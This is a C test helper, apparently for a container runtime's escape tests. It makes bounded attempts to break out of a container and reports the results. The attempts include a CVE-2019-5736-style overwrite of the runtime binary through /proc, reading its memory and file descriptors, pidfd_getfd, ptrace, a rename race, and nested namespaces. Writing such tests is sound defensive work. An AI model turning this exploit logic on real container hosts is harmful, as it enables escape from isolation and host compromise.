// The hostile program inside a container for escape-*.root.test.ts: static, so that it runs in any root. It tries one thing for
// a bounded time and says what it got, one word and its facts a line; the tests judge.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

static double now(void) {
  struct timespec time;
  clock_gettime(CLOCK_MONOTONIC, &time);
  return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

static bool read_text(const char *path, char *text, size_t size) {
  int fd = open(path, O_RDONLY);
  ssize_t got = fd < 0 ? -1 : read(fd, text, size - 1);
  if (fd >= 0) close(fd);
  text[got < 0 ? 0 : got] = 0;
  return got >= 0;
}

static bool runs_the_runtime(int pid) {
  char path[64], link[256];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  ssize_t got = readlink(path, link, sizeof link - 1);
  link[got < 0 ? 0 : got] = 0;
  return strstr(link, "gantry-shim") != NULL;
}

static bool is_called_like_the_runtime(int pid) {
  char path[64], name[64];
  snprintf(path, sizeof path, "/proc/%d/comm", pid);
  return read_text(path, name, sizeof name) && strcmp(name, "gantry-shim\n") == 0;
}

// Calls `visit` with every other process again and again.
static void for_each_process(double seconds, void (*visit)(int pid)) {
  double end = now() + seconds;
  while (now() < end) {
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    while (proc != NULL && (entry = readdir(proc)) != NULL) {
      int pid = atoi(entry->d_name);
      if (pid > 0 && pid != getpid()) visit(pid);
    }
    if (proc != NULL) closedir(proc);
  }
}

// --- overwrite: take hold of the runtime's program while it runs, and write to it once nobody does any more (CVE-2019-5736)
static int held = -1;

static void take_hold(int pid) {
  char path[64];
  if (held >= 0 || !runs_the_runtime(pid)) return;
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  held = open(path, O_RDONLY);
  if (held >= 0) puts("held");
}

static const char *error_name(void) {
  return errno == EPERM ? "EPERM" : errno == ETXTBSY ? "ETXTBSY" : errno == EACCES ? "EACCES" : errno == EROFS ? "EROFS" : "other";
}

static void overwrite(double seconds) {
  for (double end = now() + seconds; held < 0 && now() < end;) for_each_process(0.01, take_hold);
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
  int writable = -1;
  for (double end = now() + 1; held >= 0 && writable < 0 && now() < end; usleep(1000)) {
    fchmod(held, 0777);
    writable = open(path, O_WRONLY);
  }
  if (writable < 0) {
    printf("open %s\n", error_name());
    return;
  }
  puts("open good");
  printf("write %s\n", write(writable, "#!/bin/evil\n", 12) == 12 ? "good" : error_name());
  printf("truncate %s\n", ftruncate(writable, 0) == 0 ? "good" : error_name());
}

// --- watch: reach into whatever comes into the container before it is the container's own
static const char *host_marker;
static int denied;

static void reach_marker(int pid, const char *what) {
  char path[512];
  struct stat status;
  snprintf(path, sizeof path, "/proc/%d/%s/../../../../../../../../../..%s", pid, what, host_marker);
  if (stat(path, &status) == 0) printf("escaped %s\n", what);
}

static void reach_into(int pid) {
  if (!is_called_like_the_runtime(pid)) return;
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/mem", pid);
  int memory = open(path, O_RDWR);
  if (memory < 0) denied++;
  // Still the runtime, after it could be opened: its memory it was.
  else if (runs_the_runtime(pid)) puts("escaped mem");
  if (memory >= 0) close(memory);
  reach_marker(pid, "cwd");
  reach_marker(pid, "root");
  for (int fd = 3; fd < 24; fd++) {
    snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
    int got = open(path, O_PATH);
    if (got >= 0) printf("escaped fd %d\n", fd), close(got);
  }
  int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
  for (int fd = 3; pidfd >= 0 && fd < 24; fd++) {
    int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (got >= 0) printf("escaped pidfd_getfd %d\n", fd), close(got);
  }
  if (pidfd >= 0) close(pidfd);
  if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
    if (runs_the_runtime(pid)) puts("escaped ptrace");
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
  }
}

// --- swap: exchange two names as fast as it goes
static void swap(const char *one, const char *other, double seconds) {
  long swaps = 0;
  for (double end = now() + seconds; now() < end; swaps++)
    if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0) break;
  printf("swapped %ld\n", swaps);
}

// --- nested: a command in namespaces of one's own, with all capabilities there
static int nested(char **command) {
  int uid = (int)getuid(), gid = (int)getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWCGROUP | CLONE_NEWIPC) < 0) {
    printf("refused %s\n", error_name());
    return 0;
  }
  char map[64];
  const char *files[] = {"setgroups", "uid_map", "gid_map"};
  for (int index = 0; index < 3; index++) {
    char path[64];
    snprintf(path, sizeof path, "/proc/self/%s", files[index]);
    int length = index == 0 ? snprintf(map, sizeof map, "deny") : snprintf(map, sizeof map, "0 %d 1", index == 1 ? uid : gid);
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, map, (size_t)length) != length) printf("map %s\n", error_name());
    if (fd >= 0) close(fd);
  }
  puts("nested");
  fflush(stdout);
  pid_t child = fork();
  if (child == 0) execvp(command[0], command), _exit(127);
  int status;
  waitpid(child, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 128;
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *verb = argc > 2 ? argv[1] : "";
  if (strcmp(verb, "overwrite") == 0) {
    overwrite(atof(argv[2]));
  } else if (strcmp(verb, "watch") == 0 && argc == 4) {
    host_marker = argv[3];
    for_each_process(atof(argv[2]), reach_into);
    printf("denied %d\n", denied);
  } else if (strcmp(verb, "swap") == 0 && argc == 5) {
    swap(argv[2], argv[3], atof(argv[4]));
  } else if (strcmp(verb, "nested") == 0) {
    return nested(argv + 2);
  } else {
    return 2;
  }
  puts("done");
  return 0;
}
